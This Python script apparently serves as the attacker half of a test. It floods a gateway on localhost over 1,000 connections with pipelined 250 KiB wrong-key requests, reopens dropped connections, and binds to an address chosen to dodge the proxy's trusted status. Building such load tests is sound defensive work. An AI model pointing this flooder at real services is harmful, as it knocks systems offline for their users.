"""The attack of `attack.py`, on one core: ``python attacker.py PORT``; prints a line once its connections are open.

On each of 1,000 connections it sends requests with heads of 250 KiB without waiting for responses. All try a wrong key,
so they are answered late, and the next ones wait. Connections that the gateway closes are opened again.
"""

import os
import selectors
import socket
import sys

CONNECTIONS, HEAD_BYTES = 1_000, 250 * 1024


def attack(port: int) -> None:
    """Send until this process is ended."""
    os.sched_setaffinity(0, {max(os.sched_getaffinity(0))})
    query = b"key=wrong&x=" + b"x" * HEAD_BYTES
    request = memoryview(b"GET /alert/a@b.example/when/attic/true?" + query + b" HTTP/1.1\r\nHost: localhost\r\n\r\n")
    selector = selectors.DefaultSelector()
    for _ in range(CONNECTIONS):
        _open(selector, port)
    print("attacking", flush=True)
    while True:
        for key, events in selector.select():
            connection = key.fileobj
            assert isinstance(connection, socket.socket)
            try:
                if events & selectors.EVENT_READ and not connection.recv(1 << 16):
                    raise ConnectionResetError
                sent = connection.send(request[key.data :]) if events & selectors.EVENT_WRITE else 0
                selector.modify(connection, key.events, (key.data + sent) % len(request))
            except BlockingIOError:
                continue
            except OSError:
                selector.unregister(connection)
                connection.close()
                _open(selector, port)


def _open(selector: selectors.BaseSelector, port: int) -> None:
    connection = socket.socket()
    connection.bind(("127.0.0.2", 0))  # not that of the proxy, which is trusted
    connection.setblocking(False)
    connection.connect_ex(("127.0.0.1", port))
    selector.register(connection, selectors.EVENT_READ | selectors.EVENT_WRITE, 0)


if __name__ == "__main__":
    attack(int(sys.argv[1]))
